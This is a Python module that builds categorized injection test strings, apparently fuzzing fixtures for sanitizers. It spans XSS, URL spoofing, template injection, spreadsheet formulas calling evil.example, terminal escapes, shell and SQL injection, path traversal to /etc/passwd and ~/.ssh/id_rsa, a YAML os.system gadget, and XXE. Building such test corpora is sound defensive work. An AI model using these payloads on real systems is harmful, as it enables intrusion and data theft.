"""Strings that mean harm, by kind. Built, not stored: each kind says in a line or two what it tries.

What runs would set the page's title to `OWNED`; what loads would ask the host `HOST`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

OWNED = "OWNED"
HOST = "evil.example"
RUN = f"document.title='{OWNED}'"

CONTROLS = [*range(0x20), *range(0x7F, 0xA0)]
LINE_BREAKS = ("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def scripts() -> Iterator[str]:
    """Elements that run what they hold."""
    yield from (
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<ScRiPt/x>{RUN}</sCrIpT >",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script\n>{RUN}</script\n>",
        f"<script src=//{HOST}/x.js></script>",
        f"<script type=module>import 'https://{HOST}/x.js'</script>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=data:text/javascript,{RUN} /></svg>",
        f"<math><script>{RUN}</script></math>",
        f"<iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
        f"<iframe src=//{HOST}></iframe>",
        f"<object data=//{HOST}></object>",
        f"<embed src=//{HOST}>",
        f"<base href=//{HOST}/>",
        f"<link rel=stylesheet href=//{HOST}/x.css>",
        f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
        f"<form action=//{HOST}><button autofocus>x</button></form>",
        f"<template><script>{RUN}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<<script>{RUN}//<</script>",
        f"<script>{RUN}",
        f"\u3008script\u3009{RUN}\u3008/script\u3009",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    )


def handlers() -> Iterator[str]:
    """Elements with an event that comes by itself, in every way of quoting."""
    elements = (
        "img src=x onerror",
        "svg onload",
        "body onload",
        "video src=x onerror",
        "audio src=x onerror",
        "details open ontoggle",
        "input autofocus onfocus",
        "select autofocus onfocus",
        "marquee onstart",
        "iframe onload",
        "object data=x onerror",
        "style onload",
        "svg><animate attributeName=x begin=0s dur=1s onbegin",
        "x contenteditable autofocus tabindex=0 onfocus",
        "input type=image src=x onerror",
    )
    for element, (before, after) in product(elements, (("=", ""), ("='", "'"), ('="', '"'), ("/=\t", ""))):
        code = RUN.replace("'", "`")
        yield f"<{element}{before}{code}{after}>"


def breakouts() -> Iterator[str]:
    """Ways out of an attribute, a raw text, a comment or a table, and what comes then."""
    harm = f"<img src=//{HOST}/p.png onerror={RUN}>"
    for way in ('"', "'", "`", '">', "'>", "'/>", '\\">', "</bdi>", "</table>", "</main></body></html>"):
        yield f"{way}{harm}"
    for raw in ("script", "style", "title", "textarea", "xmp", "noscript", "iframe", "svg", "math", "template"):
        yield f"</{raw}>{harm}"
        yield f"</{raw.upper()}\t\n>{harm}<{raw}>"
    for mark in ("-->", "--!>", "<!--", "<!-->", "<![CDATA[", "]]>", "<?xml ?>", "<!DOCTYPE x>", "<%", "?>"):
        yield f"{mark}{harm}"
    for event in ("onmouseover", "onfocus", "onclick", "onpointerenter"):
        for quote in "\"'` ":
            yield f"x{quote} {event}={quote}{RUN}{quote} autofocus x={quote}"


def links() -> Iterator[str]:
    """Addresses that run, show or load something else than a page of the web, in every spelling."""
    schemes = {
        "javascript": RUN,
        "vbscript": "msgbox(1)",
        "data": f"text/html,<script>{RUN}</script>",
        "file": "///etc/passwd",
        "blob": "https://x/1",
        "intent": "//x#Intent;end",
    }
    for scheme, rest in schemes.items():
        yield f"{scheme}:{rest}"
        yield f"{scheme.upper()}:{rest}"
        yield f" \t{scheme}:{rest}"
        yield f"\x01{scheme}:{rest}"
        yield f"{scheme[:4]}\t{scheme[4:]}:{rest}"
        yield f"{scheme[:4]}\n{scheme[4:]}:{rest}"
        yield f"{scheme}&colon;{rest}"
        yield f"{scheme}\uff1a{rest}"
        yield "".join(f"&#{ord(letter)};" for letter in scheme) + f":{rest}"
        yield "".join(f"&#x{ord(letter):x}" for letter in scheme) + f":{rest}"
        yield f"%{ord(scheme[0]):x}{scheme[1:]}:{rest}"
        yield f"{scheme}:{rest}//https://example.org/"


def addresses() -> Iterator[str]:
    """Web addresses that lead elsewhere than they seem to."""
    yield from (
        f"https://example.org@{HOST}/",
        f"https://example.org:pass@{HOST}/",
        f"https://example.org%40{HOST}/",
        f"https://example.org\\@{HOST}/",
        f"https://{HOST}\\.example.org/",
        f"https://example.org%2e{HOST}/",
        f"https://example.org;.{HOST}/",
        f"https://example.org&.{HOST}/",
        f"https://example.org\u2044.{HOST}/",
        f"https://example.org\uff0f.{HOST}/",
        f"https://example\u3002org.{HOST}/",
        f"https:{HOST}",
        f"https:///{HOST}",
        f"https:\\\\{HOST}",
        f"//{HOST}/",
        f"\\\\{HOST}\\share",
        f"http://{HOST}:0/",
        f"http://{HOST}:99999/",
        f"http://{HOST}:80:80/",
        f"https://{HOST}/\u202egpj.exe",
        f"https://{HOST}/'onmouseover='{RUN}",
        f'https://{HOST}/"onmouseover="{RUN}',
        f"https://{HOST}/<script>{RUN}</script>",
        f"https://{HOST}/ x",
        f"https://{HOST}/#\x00",
        "https://ex\u0430mple.org/",
        "https://\u0455\u0441\u043e\u0440\u0435.org/",
        "https://xn--80ak6aa92e.com/",
        "https://[::1]/",
        "https://[::1",
        "https://example..org/",
        "https://.example.org/",
        "https://localhost/",
        "https://",
        "http://2130706433/",
        "https://example.org/\u0301",
        "feed:https://example.org",
        "ftp://example.org/",
        "HTTPS://EXAMPLE.ORG/A",
    )


def entities() -> Iterator[str]:
    """Text that is markup once somebody decodes it, once or twice."""
    for code in (
        "&lt;",
        "&LT",
        "&#60;",
        "&#060",
        "&#x3c;",
        "&#X0003C;",
        "&amp;lt;",
        "&amp;#60;",
        "%3C",
        "%253C",
        "\\x3c",
    ):
        yield f"{code}script>{RUN}{code}/script>"
        yield f"{code}img src=x onerror={RUN}>"
    yield from ("&", "&amp;", "&bogus;", "&#0;", "&#x110000;", "&#xd800;", "&#8238;evil", "&Tab;&NewLine;&nbsp;")


def templates() -> Iterator[str]:
    """Template and format languages."""
    for sum_ in (
        "{{7*7}}",
        "{{-7*7-}}",
        "{%print(7*7)%}",
        "${7*7}",
        "#{7*7}",
        "<%=7*7%>",
        "@(7*7)",
        "[[7*7]]",
        "{7*7}",
    ):
        yield sum_
        yield f"a {sum_} b"
    yield from (
        "{{ document }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include 'report.css' %}",
        "{% raw %}",
        "{% endraw %}{{ policy }}",
        "{# gone #}",
        "{%- set d = none -%}",
        "{{ document | safe }}",
        "{0}",
        "{0.__class__}",
        "{x!r:>99999}",
        "%s%s%s%n",
        "%(name)s",
        "%99999999d",
        "$name ${name} $$",
        "f'{1+1}'",
        "{{{{{{{{{{",
        "{% for x in range(999999999) %}x{% endfor %}",
    )


def markups() -> Iterator[str]:
    """Rich, Markdown and other markup."""
    for tag in (
        "red",
        "bold red on white",
        "/",
        "/red",
        "link=https://evil.example",
        "@click=app.bell",
        "#ff0000",
        "blink",
    ):
        yield f"[{tag}]gone[/{tag}]"
        yield f"x [{tag}"
    yield from (
        "[/nothing was open]",
        "\\[red]",
        "\\\\[red]",
        ":smile: :warning:",
        "**bold** _it_ `code` ~~gone~~",
        "# Heading",
        "1. one",
        "> quote",
        "---",
        "===",
        "| a | b |\n|---|---|",
        "```\ncode\n```",
        f"[words](javascript:{RUN})",
        f"![words](https://{HOST}/p.png)",
        f"[words]: https://{HOST} 'x'",
        f"<https://{HOST}>",
        f"<javascript:{RUN}>",
        "[^1]: note",
        "$$\\input{/etc/passwd}$$",
        "\\write18{id}",
        "\\href{javascript:x}{y}",
        "''italic'' [[link]] {{template}}",
        "*bold* +under+ {code}",
    )


def formulas() -> Iterator[str]:
    """What a spreadsheet would take for a formula."""
    for sign, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
        (
            "1+1",
            f'HYPERLINK("https://{HOST}","x")',
            "cmd|' /C calc'!A0",
            f'WEBSERVICE("https://{HOST}/"&A1)',
        ),
    ):
        yield f"{sign}{rest}"
    yield from ("'=1+1", '"=1+1"', ";=1+1", ",=1+1", "%0A=1+1", 'DDE("cmd";"/C calc";"x")')


def terminal_codes() -> Iterator[str]:
    """What a terminal obeys, by the two bytes of seven bits and by the one of eight."""
    for csi in ("\x1b[", "\x9b"):
        for code in ("31m", "8m", "2J", "H", "1A", "2K", "6n", "c", "?1049h", "?25l", "?2004h", "21t", "5i", "99999C"):
            yield f"a{csi}{code}b"
    for osc, end in (("\x1b]", "\x07"), ("\x1b]", "\x1b\\"), ("\x9d", "\x9c")):
        yield f"{osc}0;owned{end}"
        yield f"{osc}8;;https://{HOST}{end}words{osc}8;;{end}"
        yield f"{osc}52;c;b3duZWQ={end}"
        yield f"{osc}4;1;?{end}"
        yield f"{osc}1337;File=:AAAA{end}"
    for string in ("\x1bP", "\x90", "\x1b_", "\x9f", "\x1b^", "\x9e", "\x1bX", "\x98"):
        yield f"a{string}$qm\x1b\\b"
    yield from (
        "\x1bc",
        "\x1b(0lqk\x1b(B",
        "\x0elqk\x0f",
        "pass\x08\x08\x08\x08fail",
        "a\x1b",
        "\x1b",
        "\x1b[",
        "\x1b]8;;",
    )


def controls() -> Iterator[str]:
    """Every control character."""
    return (f"a{chr(code)}b" for code in CONTROLS)


def forged_lines() -> Iterator[str]:
    """A line of its own, that says what the program might say."""
    for line_break, message in product(LINE_BREAKS, ("Checks: pass (all is well)", "warning: delete everything", "")):
        yield f"harmless{line_break}{message}"


def reordered() -> Iterator[str]:
    """Embeddings, overrides, isolates and marks of direction."""
    yield from (f"abc{code}txt.exe" for code in BIDI)
    yield from (
        "\u202e" * 50 + "x",
        "\u2067\u2066a\u2069\u2069",
        "\u2069\u2069\u2069close",
        "\u2067open",
        "\u202d12\u202c%",
    )


def unseen() -> Iterator[str]:
    """Characters that nobody sees."""
    nothing = (
        "\u00ad\u034f\u115f\u1160\u17b4\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u206a\u206f\u2800\u3164\ufe00"
    )
    for (
        character
    ) in f"{nothing}\ufeff\uffa0\ufff9\ufffa\ufffb\U0001bca0\U0001d173\U000e0001\U000e0020\U000e0100\U000e01ef":
        yield f"al{character}-Maliki"
    yield "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all this")
    yield "x" + "".join(chr(0xE0100 + ord(letter)) for letter in "ignore all this")
    yield "".join("\u200b\u200c"[bit == "1"] for bit in f"{0x0BADCAFE:032b}") + "x"
    yield "\ufeffx"


def towers() -> Iterator[str]:
    """Accents without end, and accents that sit on what stands before the text."""
    for mark in "\u0301\u0338\u0489\u20dd\u0e47\u064b\u0f71\u1ab0":
        yield "a" + mark * 300
        yield f"{mark}leading"
    yield "".join(f"{letter}{chr(0x300 + place) * 20}" for place, letter in enumerate("zalgo is here"))


def broken_characters() -> Iterator[str]:
    """Halves of characters, and numbers that are none."""
    for code in (0xD800, 0xDBFF, 0xDC00, 0xDCFF, 0xDFFF, 0xE000, 0xF8FF, 0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF):
        yield f"a{chr(code)}b"
    yield from ("\udc00\ud800", "\ud83d", "caf\udce9", "\ufffd")


def scripts_of_the_world() -> Iterator[str]:
    """Nothing hostile at all: text that must come through as it is written."""
    yield from (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "\u0627\u0644\u0645\u0627\u0644\u0643\u064a 12% (3)",
        "\u05e2\u05d1\u05e8\u05d9\u05ea abc 123",
        "\u0928\u094d\u200d\u092f\u093e\u092f",
        "\u0e44\u0e17\u0e22\u0e19\u0e35\u0e49",
        "\u6f22\u5b57\u3000\u304b\u306a",
        "\ud55c\uad6d\uc5b4",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f44d\U0001f3fd \u2764\ufe0f",
        "\U0001f1ee\U0001f1f6",
        "Zu\u0308rich \u2013 \u20ac5 \u00bd",
        "Vi\u1ec7t ma\u0323\u0302",
        "\ufdfd",
        "a\u00a0b\u2009c\u3000d",
    )


def paths_and_shells() -> Iterator[str]:
    """Files that are none of the reader's business, and words for a shell."""
    for up in ("../", "..\\", "%2e%2e/", "....//", "..;/"):
        yield f"{up * 6}etc/passwd"
    yield from (
        "/etc/passwd",
        "~/.ssh/id_rsa",
        "C:\\Windows\\win.ini",
        "CON",
        "NUL.csv",
        "/dev/null",
        "x/../y",
        ".",
        "..",
        "/",
    )
    for hook in (
        "$(id)",
        "`id`",
        ";id",
        "|id",
        "||id",
        "&&id",
        "&id",
        "\nid\n",
        ">/tmp/x",
        "<(id)",
        "${IFS}id",
        "%COMSPEC%",
    ):
        yield f"x{hook}"
    yield from (
        "--help",
        "-rf",
        "--",
        "-",
        "*",
        "?",
        "!!",
        "#",
        "~",
        "\\",
        "'",
        '"',
        "!#$%^&*()",
        "import os; os.system('id')",
    )


def queries() -> Iterator[str]:
    """SQL and its cousins."""
    for quote, rest in product(("'", '"', "')", ""), (" OR 1=1 --", "; DROP TABLE reports; --", " UNION SELECT 1 --")):
        yield f"x{quote}{rest}"
    yield from ("*)(uid=*", "{'$gt': ''}", "' or ''='", "x'; EXEC xp_cmdshell('id')--")


def broken_data() -> Iterator[str]:
    """What ends a cell of CSV, a value of YAML or a string of JSON."""
    yield from ('"', '""', '",', '","x', "a,b", "a;b", "a\tb", '"\n', 'a"b', "a\r\nb,c", '"a","b"', "\ufeffa", "sep=;")
    yield from (
        "a: b",
        "- a",
        "? a",
        "&a b",
        "*a",
        "!!python/object/apply:os.system [id]",
        "%TAG ! x",
        "---",
        "...",
        "#x",
    )
    yield from (
        "{",
        "[",
        "}",
        "]",
        "|",
        ">",
        "@x",
        "`x",
        "a #b",
        "NO",
        "~",
        "null",
        "1e5",
        "007",
        ".nan",
        "2026-01-01",
        "<<: *a",
    )
    yield from (
        '"}',
        "\\u0000",
        "\\ud800",
        "\\",
        '\\"',
        '"]}',
        '{"a":1}',
        "NaN",
        "Infinity",
        "\\n",
        "true",
        "0x1F",
        "1_000",
    )


def styles() -> Iterator[str]:
    """CSS that loads, hides or runs."""
    yield from (
        f"background:url(//{HOST}/p.png)",
        f"@import '//{HOST}/x.css';",
        f"}}*{{background:url(https://{HOST})}}",
        "}*{display:none}",
        f"width:expression({RUN})",
        f"-moz-binding:url(//{HOST}/x.xml#x)",
        f"behavior:url(//{HOST}/x.htc)",
        f"<style>@import url(//{HOST}/x.css);</style>",
        f"<p style='background:url(//{HOST}/p.png)'>",
        "\\75 rl(x)",
        "/*",
        "*/",
        "content:attr(x)",
    )


def xml() -> Iterator[str]:
    """What SVG and XML know beyond HTML."""
    yield from (
        '<!ENTITY a "x">&a;',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        f"<a xlink:href='javascript:{RUN}'>x</a>",
        f"<use href='data:image/svg+xml,<svg onload={RUN}>'/>",
        f"<image href='https://{HOST}/p.png'/>",
        f"<foreignObject><body onload={RUN}></foreignObject>",
        f"<set attributeName=onmouseover to={RUN}>",
        f"<animate attributeName=href values='javascript:{RUN}'/>",
        f"<?xml-stylesheet href='//{HOST}/x.css'?>",
        f"<xi:include href='//{HOST}/x'/>",
        f"<feImage href='https://{HOST}/p.png'/>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    )


KINDS = {
    kind.__name__: tuple(dict.fromkeys(kind()))
    for kind in (
        scripts,
        handlers,
        breakouts,
        links,
        addresses,
        entities,
        templates,
        markups,
        formulas,
        terminal_codes,
        controls,
        forged_lines,
        reordered,
        unseen,
        towers,
        broken_characters,
        scripts_of_the_world,
        paths_and_shells,
        queries,
        broken_data,
        styles,
        xml,
    )
}
HOSTILE = tuple(dict.fromkeys(text for kind in KINDS.values() for text in kind))


def endless() -> Iterator[str]:
    """Lines of ten million characters."""
    for piece in ("A", "words ", "<b>", "\u202e", "\u4e00", "\u0301", "\n"):
        yield piece * (10_000_000 // len(piece))
